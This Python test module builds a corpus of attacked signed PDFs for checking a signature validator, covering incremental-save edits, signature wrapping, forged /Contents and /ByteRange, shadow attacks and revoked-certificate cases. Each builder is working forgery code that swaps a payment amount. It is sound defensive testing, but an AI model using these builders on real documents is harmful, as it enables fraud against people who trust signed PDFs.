"""The attack corpus: PDFs crafted against a signature, each with the verdict it must get.

Every case starts from a one-page document signed with pyHanko directly (the signer under test is
not involved, so a flaw in it cannot hide a flaw in the validator) and is then manipulated with
pyHanko's writer and generic objects, or at byte level where the attack lives below the object
model. The classes are those of DOMAIN.md §3 (after Mladenov et al., "1 Trillion Dollar Refund",
2019, and Mainka et al., "Shadow Attacks", 2021):

- incremental saving: page content replaced, or a page added, in a revision after the signature;
- signature wrapping: objects hidden in the byte-range gap next to the signature container, or
  the signature dictionary relocated into a later revision;
- universal forgery: empty, zeroed or malformed ``/Contents``, ``/ByteRange`` not matching;
- shadow attacks: hide (an overlay present when signing is emptied afterwards), replace (a form
  field present when signing gets another value), hide-and-replace (an unused content stream
  present when signing becomes the page's content);
- a certificate revoked (2025-06-01) before the claimed signing time, with and without a
  time-stamp; either way nothing proves the signature predates the revocation, which ETSI
  EN 319 102-1 (validation with time, 5.5) reports as INDETERMINATE/REVOKED_NO_POE.

None may be TOTAL-PASSED; ``expected`` states the indication and sub-indication each must get.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from io import BytesIO

from asn1crypto import cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import PdfFileWriter
from pyhanko.sign import fields, signers, timestamps

from signing.devpki import DevPki
from signing.validation.results import Indication, SubIndication

BENIGN = b"So tien thanh toan: 1.000.000 dong"
MALICIOUS = b"So tien thanh toan: 900.000.000 dong"
#: claimed signing time of the revoked-certificate cases: after the revocation (2025-06-01)
HEADING = b"BT /F1 20 Tf 72 760 Td (UBND TINH MAU - QUYET DINH) Tj ET "
CLAIMED_AFTER_REVOCATION = datetime(2025, 7, 1, 9, 0, tzinfo=UTC)


@dataclass(frozen=True)
class AttackCase:
    name: str
    attack_class: str
    description: str
    expected: tuple[Indication, SubIndication]
    #: builds the file; needs the PKI's services running (OCSP, TSA)
    build: Callable[[DevPki], bytes]


# --- the document before signing -----------------------------------------------------------

def _text_stream(text: bytes, *, y: int = 700, white_box: bool = False) -> generic.StreamObject:
    box = b"1 1 1 rg 60 %d 480 40 re f " % (y - 12) if white_box else b""
    data = box + b"0 0 0 rg BT /F1 16 Tf 72 %d Td (%s) Tj ET" % (y, text)
    return generic.StreamObject(stream_data=data)


def _font() -> generic.DictionaryObject:
    return generic.DictionaryObject({
        generic.pdf_name("/Type"): generic.pdf_name("/Font"),
        generic.pdf_name("/Subtype"): generic.pdf_name("/Type1"),
        generic.pdf_name("/BaseFont"): generic.pdf_name("/Helvetica"),
    })


def _form_xobject(writer: PdfFileWriter, stream: generic.StreamObject,
                  font_ref: generic.IndirectObject) -> generic.IndirectObject:
    stream[generic.pdf_name("/Type")] = generic.pdf_name("/XObject")
    stream[generic.pdf_name("/Subtype")] = generic.pdf_name("/Form")
    stream[generic.pdf_name("/BBox")] = generic.ArrayObject(map(generic.NumberObject,
                                                                (0, 0, 595, 842)))
    stream[generic.pdf_name("/Resources")] = generic.DictionaryObject({
        generic.pdf_name("/Font"): generic.DictionaryObject({generic.pdf_name("/F1"): font_ref})
    })
    return writer.add_object(stream)


def base_document(*, overlay: bool = False, hidden_stream: bool = False,
                  text_field: bytes | None = None) -> bytes:
    """A one-page document; the flags add the objects a shadow attack prepares before signing.

    ``overlay``: the malicious amount is drawn, then covered by a form XObject ``/Cover`` (a white
    box with the benign amount) -- the signer sees the benign one.
    ``hidden_stream``: an unused content stream with the malicious amount sits in the file.
    ``text_field``: the amount is an AcroForm text field showing this value (may be empty).
    """
    writer = PdfFileWriter()
    font_ref = writer.add_object(_font())
    resources = generic.DictionaryObject({
        generic.pdf_name("/Font"): generic.DictionaryObject({generic.pdf_name("/F1"): font_ref})
    })
    if overlay:
        cover = _form_xobject(writer, _text_stream(BENIGN, white_box=True), font_ref)
        resources[generic.pdf_name("/XObject")] = generic.DictionaryObject(
            {generic.pdf_name("/Cover"): cover}
        )
        content = HEADING + _text_stream(MALICIOUS).data + b" q /Cover Do Q"
    elif text_field is not None:
        content = HEADING
    else:
        content = HEADING + _text_stream(BENIGN).data
    page = generic.DictionaryObject({
        generic.pdf_name("/Type"): generic.pdf_name("/Page"),
        generic.pdf_name("/MediaBox"): generic.ArrayObject(
            map(generic.NumberObject, (0, 0, 595, 842))
        ),
        generic.pdf_name("/Resources"): resources,
        generic.pdf_name("/Contents"): writer.add_object(
            generic.StreamObject(stream_data=content)
        ),
    })
    page_ref = writer.insert_page(page)
    if hidden_stream:
        writer.add_object(_text_stream(MALICIOUS))
    if text_field is not None:
        _add_text_field(writer, page_ref, font_ref, text_field)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _add_text_field(writer: PdfFileWriter, page_ref: generic.IndirectObject,
                    font_ref: generic.IndirectObject, value: bytes) -> None:
    appearance = _form_xobject(writer, _text_stream(value, y=12, white_box=True), font_ref)
    appearance.get_object()[generic.pdf_name("/BBox")] = generic.ArrayObject(
        map(generic.NumberObject, (0, 0, 480, 40))
    )
    field = generic.DictionaryObject({
        generic.pdf_name("/Type"): generic.pdf_name("/Annot"),
        generic.pdf_name("/Subtype"): generic.pdf_name("/Widget"),
        generic.pdf_name("/FT"): generic.pdf_name("/Tx"),
        generic.pdf_name("/T"): generic.TextStringObject("so_tien"),
        generic.pdf_name("/V"): generic.TextStringObject(value.decode()),
        generic.pdf_name("/DA"): generic.TextStringObject("/F1 16 Tf 0 g"),
        generic.pdf_name("/Rect"): generic.ArrayObject(
            map(generic.NumberObject, (60, 688, 540, 728))
        ),
        generic.pdf_name("/P"): page_ref,
        generic.pdf_name("/AP"): generic.DictionaryObject({generic.pdf_name("/N"): appearance}),
    })
    field_ref = writer.add_object(field)
    page_ref.get_object()[generic.pdf_name("/Annots")] = generic.ArrayObject([field_ref])
    writer.root[generic.pdf_name("/AcroForm")] = generic.DictionaryObject({
        generic.pdf_name("/Fields"): generic.ArrayObject([field_ref]),
        generic.pdf_name("/DR"): generic.DictionaryObject({
            generic.pdf_name("/Font"): generic.DictionaryObject({generic.pdf_name("/F1"): font_ref})
        }),
        generic.pdf_name("/DA"): generic.TextStringObject("/F1 16 Tf 0 g"),
    })
    writer.update_root()


# --- signing with pyHanko directly ---------------------------------------------------------

class _ClaimedTimeSigner(signers.PdfSigner):
    """A PdfSigner whose claimed signing time (``/M``) is chosen, not the clock's."""

    def __init__(self, *args, claimed_time: datetime, **kwargs):
        super().__init__(*args, **kwargs)
        self._claimed_time = claimed_time

    def init_signing_session(self, pdf_out, existing_fields_only=False):
        session = super().init_signing_session(pdf_out, existing_fields_only)
        session.system_time = self._claimed_time
        return session


def sign(pki: DevPki, document: bytes, *, label: str = "leader-an", field: str = "Signature1",
         claimed_time: datetime | None = None, with_timestamp: bool = False) -> bytes:
    """Sign ``document`` as PAdES B-B (B-T with a time stamp from the dev TSA)."""
    signer = signers.SimpleSigner.load_pkcs12(str(pki.p12(label)), passphrase=None)
    meta = signers.PdfSignatureMetadata(
        field_name=field, subfilter=fields.SigSeedSubFilter.PADES, md_algorithm="sha256"
    )
    timestamper = timestamps.HTTPTimeStamper(pki.tsa_url) if with_timestamp else None
    if claimed_time is None:
        pdf_signer = signers.PdfSigner(meta, signer=signer, timestamper=timestamper)
    else:
        pdf_signer = _ClaimedTimeSigner(meta, signer=signer, timestamper=timestamper,
                                        claimed_time=claimed_time)
    out = pdf_signer.sign_pdf(IncrementalPdfFileWriter(BytesIO(document)))
    return out.getvalue()


# --- helpers for manipulating a signed file ------------------------------------------------

def _incremental(signed: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(signed))
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _first_page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    return writer.root["/Pages"]["/Kids"][0].get_object()


def _signature_gap(signed: bytes) -> tuple[int, int, list[int]]:
    """(start, end) of the ``/Contents`` hole and the ``/ByteRange`` values, from the file."""
    sig_dict = PdfFileReader(BytesIO(signed)).embedded_signatures[0].sig_object
    byte_range = [int(x) for x in sig_dict["/ByteRange"]]
    return byte_range[1], byte_range[2], byte_range


def _replace_stream(writer: IncrementalPdfFileWriter, ref: generic.IndirectObject,
                    data: bytes) -> None:
    """Give the stream object ``ref`` new content in the next revision (same object number)."""
    new = generic.StreamObject(
        {k: v for k, v in ref.get_object().items() if k not in ("/Length", "/Filter")},
        stream_data=data,
    )
    writer.objects[(ref.generation, ref.idnum)] = new


def _replace_page_content(writer: IncrementalPdfFileWriter) -> None:
    _replace_stream(
        writer, _first_page(writer).raw_get("/Contents"),
        HEADING + _text_stream(MALICIOUS).data,
    )


# --- the cases ------------------------------------------------------------------------------

def _page_content_replaced(pki: DevPki) -> bytes:
    return _incremental(sign(pki, base_document()), _replace_page_content)


def _page_added(pki: DevPki) -> bytes:
    def add_page(writer: IncrementalPdfFileWriter) -> None:
        first = _first_page(writer)
        writer.insert_page(generic.DictionaryObject({
            generic.pdf_name("/Type"): generic.pdf_name("/Page"),
            generic.pdf_name("/MediaBox"): first["/MediaBox"],
            generic.pdf_name("/Resources"): first["/Resources"],
            generic.pdf_name("/Contents"): writer.add_object(_text_stream(MALICIOUS)),
        }))
    return _incremental(sign(pki, base_document()), add_page)


def _objects_in_gap(pki: DevPki) -> bytes:
    """Wrapping: the zero padding after the CMS in the ``/Contents`` hole is replaced by the
    rest of the signature dictionary (so a parser sees a complete one ending inside the
    unsigned hole), a page-content object, and the opening of a dummy dictionary that swallows
    the signed remainder; a new revision then points the page at the object in the hole."""
    signed = sign(pki, base_document())
    start, end, _ = _signature_gap(signed)
    hole = signed[start:end]
    # the CMS as long as its DER says (stripping the zeros could cut a last byte of its own)
    padded = bytes.fromhex(hole[1:-1].decode())
    cms_hex = padded[:len(cms.ContentInfo.load(padded, strict=False).dump())].hex().encode()
    reader = PdfFileReader(BytesIO(signed))
    sig_dict = reader.embedded_signatures[0].sig_object
    rest = BytesIO()
    generic.DictionaryObject(
        {k: v for k, v in sig_dict.items() if k != "/Contents"}
    ).write_to_stream(rest)
    free_id = int(reader.trailer_view["/Size"]) + 50
    body = _text_stream(MALICIOUS).data
    injected = (
        b"<" + cms_hex + b">" + rest.getvalue()[2:] + b"\nendobj\n"
        + b"%d 0 obj\n<</Length %d>>stream\n" % (free_id, len(body)) + body
        + b"\nendstream\nendobj\n%d 0 obj\n<</Pad <" % (free_id + 1)
    )
    padding = len(hole) - len(injected) - 1
    if padding < 0:
        raise RuntimeError("signature hole too small for the wrapping payload")
    forged = signed[:start] + injected + b"0" * padding + b">" + signed[end:]
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0).reference
    offset = start + injected.index(b"%d 0 obj" % free_id)
    return _append_xref_revision(forged, {free_id: offset}, page_ref, free_id)


def _append_xref_revision(data: bytes, new_offsets: dict[int, int],
                          page_ref: generic.Reference, contents_id: int) -> bytes:
    """Append a classic revision that rewrites the page to use ``contents_id``."""
    reader = PdfFileReader(BytesIO(data), strict=False)
    page = reader.get_object(page_ref)
    out = BytesIO()
    out.write(data)
    out.write(b"\n")
    offsets = dict(new_offsets)
    offsets[page_ref.idnum] = out.tell()
    page_copy = generic.DictionaryObject(page)
    page_copy[generic.pdf_name("/Contents")] = generic.IndirectObject(contents_id, 0, reader)
    out.write(b"%d 0 obj\n" % page_ref.idnum)
    page_copy.write_to_stream(out)
    out.write(b"\nendobj\n")
    xref_at = out.tell()
    out.write(b"xref\n")
    for idnum in sorted(offsets):
        out.write(b"%d 1\n%010d 00000 n \n" % (idnum, offsets[idnum]))
    size = max(int(reader.trailer_view['/Size']), max(offsets) + 1)
    trailer = generic.DictionaryObject({
        generic.pdf_name("/Size"): generic.NumberObject(size),
        generic.pdf_name("/Root"): reader.trailer.raw_get("/Root"),
        generic.pdf_name("/Prev"): generic.NumberObject(reader.last_startxref),
    })
    out.write(b"trailer\n")
    trailer.write_to_stream(out)
    out.write(b"\nstartxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


def _container_relocated(pki: DevPki) -> bytes:
    """Wrapping: a later revision moves the signature dictionary (same /ByteRange, same CMS)
    into a new object outside the signed hole, and changes the page content alongside."""
    signed = sign(pki, base_document())

    def relocate(writer: IncrementalPdfFileWriter) -> None:
        field = writer.root["/AcroForm"]["/Fields"][0].get_object()
        old = field["/V"]
        copy = generic.DictionaryObject({k: v for k, v in old.items()})
        field[generic.pdf_name("/V")] = writer.add_object(copy)
        writer.mark_update(writer.root["/AcroForm"]["/Fields"].raw_get(0))
        _replace_page_content(writer)
    return _incremental(signed, relocate)


def _overwrite_hole(signed: bytes, make: Callable[[int], bytes]) -> bytes:
    start, end, _ = _signature_gap(signed)
    forged = make(end - start)
    assert len(forged) == end - start
    return signed[:start] + forged + signed[end:]


def _contents_zeroed(pki: DevPki) -> bytes:
    return _overwrite_hole(sign(pki, base_document()), lambda n: b"<" + b"0" * (n - 2) + b">")


def _contents_malformed(pki: DevPki) -> bytes:
    """A DER SEQUENCE header claiming far more bytes than there are, then garbage."""
    return _overwrite_hole(
        sign(pki, base_document()),
        lambda n: b"<3082FFFF0609" + b"AB" * ((n - 14) // 2) + b"0" * ((n - 14) % 2) + b">",
    )


def _contents_empty(pki: DevPki) -> bytes:
    """A forged signature dictionary with empty ``/Contents`` and a zero ``/ByteRange``."""
    def forge(writer: IncrementalPdfFileWriter) -> None:
        sig = generic.DictionaryObject({
            generic.pdf_name("/Type"): generic.pdf_name("/Sig"),
            generic.pdf_name("/Filter"): generic.pdf_name("/Adobe.PPKLite"),
            generic.pdf_name("/SubFilter"): generic.pdf_name("/ETSI.CAdES.detached"),
            generic.pdf_name("/ByteRange"): generic.ArrayObject(
                [generic.NumberObject(0)] * 4
            ),
            generic.pdf_name("/Contents"): generic.ByteStringObject(b""),
            generic.pdf_name("/M"): generic.pdf_string("D:20260101000000Z"),
        })
        fields.append_signature_field(
            writer, fields.SigFieldSpec("Signature1", on_page=0)
        )
        field = writer.root["/AcroForm"]["/Fields"][0].get_object()
        field[generic.pdf_name("/V")] = writer.add_object(sig)
    return _incremental(base_document(), forge)


def _byte_range_mismatch(pki: DevPki) -> bytes:
    """The ``/ByteRange`` is rewritten (same width) to stop short of the signed revision's
    end, leaving the tail -- xref and trailer -- outside any signed range."""
    signed = sign(pki, base_document())
    _, _, byte_range = _signature_gap(signed)
    match = re.search(rb"/ByteRange\s*\[([^\]]*)\]", signed)
    assert match is not None
    shortened = [byte_range[0], byte_range[1], byte_range[2], byte_range[3] - 60]
    text = b" ".join(str(v).encode() for v in shortened)
    text = text.ljust(len(match.group(1)))
    return signed[:match.start(1)] + text + signed[match.end(1):]


def _shadow_hide(pki: DevPki) -> bytes:
    def uncover(writer: IncrementalPdfFileWriter) -> None:
        cover_ref = _first_page(writer)["/Resources"]["/XObject"].raw_get("/Cover")
        _replace_stream(writer, cover_ref, b"")
    return _incremental(sign(pki, base_document(overlay=True)), uncover)


def fill_text_field(signed: bytes, value: bytes) -> bytes:
    """A new revision giving the document's text field ``value`` (and a matching appearance)."""
    def fill(writer: IncrementalPdfFileWriter) -> None:
        field_refs = writer.root["/AcroForm"]["/Fields"]
        field_ref = next(field_refs.raw_get(i) for i in range(len(field_refs))
                         if field_refs[i].get("/FT") == "/Tx")
        field = field_ref.get_object()
        field[generic.pdf_name("/V")] = generic.TextStringObject(value.decode())
        writer.mark_update(field_ref)
        _replace_stream(writer, field["/AP"].raw_get("/N"),
                        _text_stream(value, y=12, white_box=True).data)
    return _incremental(signed, fill)


def _shadow_replace(pki: DevPki) -> bytes:
    return fill_text_field(sign(pki, base_document(text_field=BENIGN)), MALICIOUS)


def _shadow_hide_and_replace(pki: DevPki) -> bytes:
    signed = sign(pki, base_document(hidden_stream=True))

    def switch(writer: IncrementalPdfFileWriter) -> None:
        page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
        hidden = _find_hidden_stream(writer)
        page_ref.get_object()[generic.pdf_name("/Contents")] = hidden
        writer.mark_update(page_ref)
    return _incremental(signed, switch)


def _find_hidden_stream(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    reader = writer.prev
    for idnum in range(1, int(reader.trailer_view['/Size'])):
        ref = generic.IndirectObject(idnum, 0, reader)
        try:
            obj = ref.get_object()
        except Exception:  # noqa: S112 -- free or compressed entries: not our stream
            continue
        if isinstance(obj, generic.StreamObject) and MALICIOUS in obj.data:
            return ref
    raise RuntimeError("hidden stream not found")


def _revoked_claimed_after(pki: DevPki) -> bytes:
    return sign(pki, base_document(), label="official-revoked",
                claimed_time=CLAIMED_AFTER_REVOCATION)


def _revoked_timestamped(pki: DevPki) -> bytes:
    return sign(pki, base_document(), label="official-revoked",
                claimed_time=CLAIMED_AFTER_REVOCATION, with_timestamp=True)


_FAILED = Indication.TOTAL_FAILED
_INDET = Indication.INDETERMINATE
SubI = SubIndication

CASES: tuple[AttackCase, ...] = (
    AttackCase("incremental-page-content-replaced", "incremental saving",
               "a later revision replaces the signed page's content stream",
               (_INDET, SubI.SIG_CONSTRAINTS_FAILURE), _page_content_replaced),
    AttackCase("incremental-page-added", "incremental saving",
               "a later revision adds a page",
               (_INDET, SubI.SIG_CONSTRAINTS_FAILURE), _page_added),
    AttackCase("wrapping-objects-in-contents-gap", "signature wrapping",
               "objects hidden in the /Contents hole, used by a later revision",
               (_FAILED, SubI.FORMAT_FAILURE), _objects_in_gap),
    AttackCase("wrapping-container-relocated", "signature wrapping",
               "the signature dictionary moved into a later revision",
               (_FAILED, SubI.FORMAT_FAILURE), _container_relocated),
    AttackCase("forgery-contents-empty", "universal forgery",
               "a signature field whose /Contents is empty and /ByteRange zero",
               (_FAILED, SubI.FORMAT_FAILURE), _contents_empty),
    AttackCase("forgery-contents-zeroed", "universal forgery",
               "the signature container overwritten with zeros",
               (_FAILED, SubI.FORMAT_FAILURE), _contents_zeroed),
    AttackCase("forgery-contents-malformed", "universal forgery",
               "the signature container replaced by malformed DER",
               (_FAILED, SubI.FORMAT_FAILURE), _contents_malformed),
    AttackCase("forgery-byterange-mismatch", "universal forgery",
               "/ByteRange rewritten so that it no longer matches the file",
               (_FAILED, SubI.HASH_FAILURE), _byte_range_mismatch),
    AttackCase("shadow-hide", "shadow attack",
               "an overlay present when signing is emptied afterwards",
               (_INDET, SubI.SIG_CONSTRAINTS_FAILURE), _shadow_hide),
    AttackCase("shadow-replace", "shadow attack",
               "a text field present when signing gets another value afterwards",
               (_INDET, SubI.SIG_CONSTRAINTS_FAILURE), _shadow_replace),
    AttackCase("shadow-hide-and-replace", "shadow attack",
               "an unused content stream present when signing becomes the page content",
               (_INDET, SubI.SIG_CONSTRAINTS_FAILURE), _shadow_hide_and_replace),
    AttackCase("revoked-before-claimed-time", "revoked certificate",
               "signed with a certificate revoked on 2025-06-01, claiming 2025-07-01",
               (_INDET, SubI.REVOKED_NO_POE), _revoked_claimed_after),
    AttackCase("revoked-before-timestamp", "revoked certificate",
               "as above, with a time stamp proving the signature exists only after revocation",
               (_INDET, SubI.REVOKED_NO_POE), _revoked_timestamped),
)
